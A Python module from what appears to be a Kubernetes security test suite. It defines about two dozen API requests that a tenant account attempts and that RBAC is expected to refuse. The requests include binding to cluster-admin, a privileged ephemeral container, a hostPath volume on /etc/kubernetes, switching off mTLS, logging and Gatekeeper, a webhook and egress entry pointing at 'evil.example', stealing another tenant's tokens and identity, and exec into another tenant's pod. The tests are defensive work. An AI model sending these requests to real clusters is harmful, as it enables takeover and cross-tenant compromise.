"""Attacks against admission by a tenant's own account: rules that it would change, asked of the real API server."""

from collections.abc import Callable
from typing import TYPE_CHECKING, Any, Final

from components.graph.names import SERVICE_LABEL
from sandbox.live.client import Object
from sandbox.proof.attacks.apiserver import (
    CORE,
    MERGE,
    STRATEGIC,
    TENANT,
    Asked,
    account,
    ask,
    attacker,
    attempted,
    home,
    live_copy,
)
from sandbox.proof.attacks.registry import Attempted, Planned
from sandbox.proof.world import World

if TYPE_CHECKING:
    from sandbox.proof.tokens import Tokens

_FAMILY: Final = "admission"
_OTHER_TENANT: Final = "bank-b"
_TARGET: Final = "bank-b/trans-ms"
_RBAC, _ISTIO = "/apis/rbac.authorization.k8s.io/v1", "/apis/security.istio.io/v1"
_NETWORKING, _TELEMETRY = "/apis/networking.istio.io/v1", "/apis/telemetry.istio.io/v1"


def _at(kind: str, name: str = "", *, api: str = CORE, namespace: str = TENANT) -> str:
    inside = f"/namespaces/{namespace}" if namespace else ""
    return f"{api}{inside}/{kind}" + (f"/{name}" if name else "")


def _named(api_version: str, kind: str, name: str = "proof", **fields: Any) -> Object:
    return {"apiVersion": api_version, "kind": kind, "metadata": {"name": name}, **fields}


def _ephemeral(world: World) -> Asked:
    image = live_copy(home(world), attacker(world), "proof")["spec"]["containers"][0]["image"]
    added = {"name": "proof", "image": image, "securityContext": {"privileged": True}}
    name = world.pod(world.home_region, attacker(world)).name
    return Asked("PATCH", _at(f"pods/{name}/ephemeralcontainers"), {"spec": {"ephemeralContainers": [added]}}, STRATEGIC)


def _host_volume(_world: World) -> Asked:
    spec = {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/etc/kubernetes"}}
    return Asked("POST", _at("persistentvolumes", namespace=""), _named("v1", "PersistentVolume", spec=spec))


def _permissive(_world: World) -> Asked:
    wanted = _named("security.istio.io/v1", "PeerAuthentication", spec={"mtls": {"mode": "PERMISSIVE"}})
    return Asked("POST", _at("peerauthentications", api=_ISTIO), wanted)


def _anybody(_world: World) -> Asked:
    rule = {"from": [{"source": {"principals": ["*"]}}]}
    wanted = _named("security.istio.io/v1", "AuthorizationPolicy", spec={"action": "ALLOW", "rules": [rule]})
    return Asked("POST", _at("authorizationpolicies", api=_ISTIO), wanted)


def _plain_port(world: World) -> Asked:
    mine = attacker(world)
    spec = {"selector": {"matchLabels": {SERVICE_LABEL: mine.name}}, "portLevelMtls": {mine.port: {"mode": "DISABLE"}}}
    wanted = _named("security.istio.io/v1", "PeerAuthentication", spec=spec)
    return Asked("POST", _at("peerauthentications", api=_ISTIO), wanted)


def _no_condition(_world: World) -> Asked:
    wanted = _named("security.istio.io/v1", "AuthorizationPolicy", spec={"action": "ALLOW", "rules": [{}]})
    return Asked("POST", _at("authorizationpolicies", api=_ISTIO), wanted)


def _plain_calls(_world: World) -> Asked:
    spec = {"host": "*.cluster.local", "trafficPolicy": {"tls": {"mode": "DISABLE"}}}
    wanted = _named("networking.istio.io/v1", "DestinationRule", spec=spec)
    return Asked("POST", _at("destinationrules", api=_NETWORKING), wanted)


def _own_host(_world: World) -> Asked:
    ports = [{"number": 443, "name": "tls", "protocol": "TLS"}]
    spec = {"hosts": ["evil.example"], "location": "MESH_EXTERNAL", "resolution": "DNS", "ports": ports}
    return Asked("POST", _at("serviceentries", api=_NETWORKING), _named("networking.istio.io/v1", "ServiceEntry", spec=spec))


def _no_log(_world: World) -> Asked:
    wanted = _named("telemetry.istio.io/v1", "Telemetry", spec={"accessLogging": [{"disabled": True}]})
    return Asked("POST", _at("telemetries", api=_TELEMETRY), wanted)


def _unwatched(_world: World) -> Asked:
    match = [{"processes": ["*"], "excludedNamespaces": [TENANT]}]
    wanted = _named("config.gatekeeper.sh/v1alpha1", "Config", "config", spec={"match": match})
    return Asked("POST", _at("configs", api="/apis/config.gatekeeper.sh/v1alpha1", namespace="gatekeeper-system"), wanted)


def _foreign_certificate(_world: World) -> Asked:
    name = f"trans-ms.{_OTHER_TENANT}.svc.cluster.local"
    spec = {"secretName": "proof", "commonName": name, "dnsNames": [name], "issuerRef": {"name": "stores"}}
    wanted = _named("cert-manager.io/v1", "Certificate", spec=spec)
    return Asked("POST", _at("certificates", api="/apis/cert-manager.io/v1"), wanted)


def _labels(_world: World) -> Asked:
    opened = {"pod-security.kubernetes.io/enforce": "privileged", "istio-injection": "disabled"}
    return Asked("PATCH", _at("namespaces", TENANT, namespace=""), {"metadata": {"labels": opened}}, MERGE)


def _stripping(_world: World) -> Asked:
    hook = {
        "name": "strip.evil.example",
        "clientConfig": {"url": "https://strip.evil.example/"},
        "failurePolicy": "Ignore",
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}],
    }
    wanted = _named("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", webhooks=[hook])
    return Asked("POST", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", wanted)


def _unguarded(_world: World) -> Asked:
    return Asked("DELETE", _at("privileged", api="/apis/constraints.gatekeeper.sh/v1beta1/noprivileged", namespace=""), {})


def _subject(world: World) -> Object:
    mine = attacker(world)
    return {"kind": "ServiceAccount", "name": mine.name, "namespace": mine.tenant}


def _cluster_admin(world: World) -> Asked:
    role = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    wanted = _named("rbac.authorization.k8s.io/v1", "RoleBinding", roleRef=role, subjects=[_subject(world)])
    return Asked("POST", _at("rolebindings", api=_RBAC), wanted)


def _binder(_world: World) -> Asked:
    rule = {"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["clusterroles"], "verbs": ["bind", "escalate"]}
    wanted = _named("rbac.authorization.k8s.io/v1", "Role", rules=[rule])
    return Asked("POST", _at("roles", api=_RBAC), wanted)


def _aggregated(_world: World) -> Asked:
    rule = {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}
    wanted = _named("rbac.authorization.k8s.io/v1", "ClusterRole", rules=[rule])
    wanted["metadata"]["labels"] = {"rbac.authorization.k8s.io/aggregate-to-view": "true"}
    return Asked("POST", _at("clusterroles", api=_RBAC, namespace=""), wanted)


def _lasting_token(world: World) -> Asked:
    wanted = _named("v1", "Secret", type="kubernetes.io/service-account-token")
    wanted["metadata"]["annotations"] = {"kubernetes.io/service-account.name": attacker(world).name}
    return Asked("POST", _at("secrets"), wanted)


def _foreign_token(_world: World) -> Asked:
    wanted = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {"audiences": ["vault"]}}
    return Asked("POST", _at("serviceaccounts/trans-ms/token", namespace=_OTHER_TENANT), wanted)


def _foreign_identity(world: World) -> Asked:
    spec = {
        "className": "zerotrust",
        "spiffeIDTemplate": f"spiffe://{world.graph.trust_domain(world.home_region)}/ns/{_OTHER_TENANT}/sa/api-ms",
        "podSelector": {"matchLabels": {SERVICE_LABEL: attacker(world).name}},
    }
    wanted = _named("spire.spiffe.io/v1alpha1", "ClusterSPIFFEID", spec=spec)
    return Asked("POST", _at("clusterspiffeids", api="/apis/spire.spiffe.io/v1alpha1", namespace=""), wanted)


def _decisions(_world: World) -> Asked:
    return Asked("PATCH", _at("configmaps", "opa-policy", namespace=_OTHER_TENANT), {"data": {"authz.rego": ""}}, MERGE)


def _own_risk(_world: World) -> Asked:
    return Asked("PATCH", _at("configmaps", "workload-risk"), {"data": {"risk.json": "{}"}}, MERGE)


def _shell(world: World) -> Asked:
    name = world.pod(world.home_region, world.graph.workloads[_TARGET]).name
    return Asked("POST", _at(f"pods/{name}/exec?command=id&container=opa&stdout=true", namespace=_OTHER_TENANT))


def _planned(
    key: str, title: str, techniques: tuple[str, ...], behind: str, made: Callable[[World], Asked], *, case: str = ""
) -> Planned:
    """An attack that RBAC refuses; `behind` is who does without it."""

    def make(world: World, _tokens: "Tokens") -> Attempted:
        user = account(attacker(world))
        return attempted(ask(home(world), made(world), user), user)

    return Planned(
        key=f"{_FAMILY}-{key}",
        title=title,
        family=_FAMILY,
        techniques=techniques,
        case=case,
        expected="kubernetes-rbac",
        behind=behind,
        make=make,
    )


ATTACKS: Final = (
    _planned(
        "ephemeral-container",
        "a privileged container added to a pod that runs",
        ("T1610",),
        "violates PodSecurity",
        _ephemeral,
        case="A03",
    ),
    _planned(
        "host-volume", "a volume of the node's files, for a claim", ("T1611",), r"\[host-volumes\]", _host_volume, case="A05"
    ),
    _planned(
        "permissive-mtls",
        "mTLS made optional in the tenant's namespace",
        ("T1562.001", "T1557"),
        "floor-platform-objects",
        _permissive,
        case="A20",
    ),
    _planned(
        "any-principal",
        "everybody let in by an AuthorizationPolicy",
        ("T1562.001",),
        "floor-platform-objects",
        _anybody,
        case="A21",
    ),
    _planned(
        "plain-port",
        "mTLS switched off for one port of its own service",
        ("T1562.001", "T1557"),
        "floor-platform-objects",
        _plain_port,
        case="A20",
    ),
    _planned(
        "no-condition",
        "an AuthorizationPolicy without a condition",
        ("T1562.001",),
        "floor-platform-objects",
        _no_condition,
        case="A21",
    ),
    _planned(
        "plain-calls", "a DestinationRule that calls without mTLS", ("T1557",), "floor-platform-objects", _plain_calls, case="A20"
    ),
    _planned(
        "own-host", "a host of its own choice let out of the mesh", ("T1041",), "floor-platform-objects", _own_host, case="A28"
    ),
    _planned("no-log", "access logs switched off", ("T1562.006",), "floor-platform-objects", _no_log),
    _planned(
        "unwatched-namespace",
        "its namespace taken out of Gatekeeper's sight",
        ("T1562.001",),
        "floor-admission-configuration",
        _unwatched,
        case="A17",
    ),
    _planned(
        "foreign-certificate",
        "a certificate in the name of another tenant's service",
        ("T1649",),
        "floor-platform-objects",
        _foreign_certificate,
    ),
    _planned(
        "namespace-labels",
        "Pod Security and injection switched off by a namespace's labels",
        ("T1562.001",),
        "floor-namespace-labels",
        _labels,
        case="A18",
    ),
    _planned(
        "stripping-webhook",
        "a webhook that rewrites pods and may fail",
        ("T1546",),
        "floor-admission-configuration",
        _stripping,
        case="A16",
    ),
    _planned(
        "constraint-removed",
        "a constraint of Gatekeeper removed",
        ("T1562.001",),
        "floor-admission-configuration",
        _unguarded,
        case="A17",
    ),
    _planned(
        "cluster-admin",
        "its own account bound to cluster-admin",
        ("T1098.006",),
        "floor-platform-objects",
        _cluster_admin,
        case="A15",
    ),
    _planned(
        "escalating-role", "a role that may bind and escalate", ("T1098.006",), "floor-platform-objects", _binder, case="A15"
    ),
    _planned(
        "aggregated-role",
        "rights slipped into everybody's view by aggregation",
        ("T1098.006",),
        "floor-platform-objects",
        _aggregated,
        case="A15",
    ),
    _planned("lasting-token", "a token without an end", ("T1528",), "floor-account-tokens", _lasting_token, case="A11"),
    _planned(
        "foreign-token", "a token of another tenant's account", ("T1528",), "floor-token-requests", _foreign_token, case="A12"
    ),
    _planned(
        "foreign-identity",
        "registered with SPIRE as another tenant's service",
        ("T1098",),
        "floor-platform-objects",
        _foreign_identity,
    ),
    _planned("decision-rules", "another tenant's decision rules replaced", ("T1562.001",), "floor-decision-data", _decisions),
    _planned("own-risk", "its own risk written down", ("T1562.001",), "floor-decision-data", _own_risk),
    _planned("shell", "a command in another tenant's pod", ("T1609",), "floor-interactive", _shell),
)
